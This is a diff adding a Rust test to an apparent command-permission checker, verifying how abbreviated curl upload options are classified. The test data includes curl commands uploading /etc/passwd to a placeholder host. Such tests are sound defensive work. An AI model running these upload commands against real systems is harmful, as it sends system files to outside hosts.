@@ -732,3 +732,17 @@ fn docker_archives_written_outside_the_tree_are_asked() {
         Vec::<&str>::new()
     );
 }
+
+#[test]
+fn curl_upload_abbreviated_with_an_equals_sign_is_asked_as_curl_rejects_it() {
+    // curl 7.88 takes `--upl` for `--upload-file` but has no `--opt=value`:
+    // `--upl=/etc/passwd` is an unknown option to curl, and asked here.
+    assert_eq!(
+        ids(&["curl", "--upl=/etc/passwd", "https://x"]),
+        ["curl.unknown-option"]
+    );
+    assert_eq!(
+        ids(&["curl", "--upl", "/etc/passwd", "https://x"]),
+        ["curl.uploads"]
+    );
+}
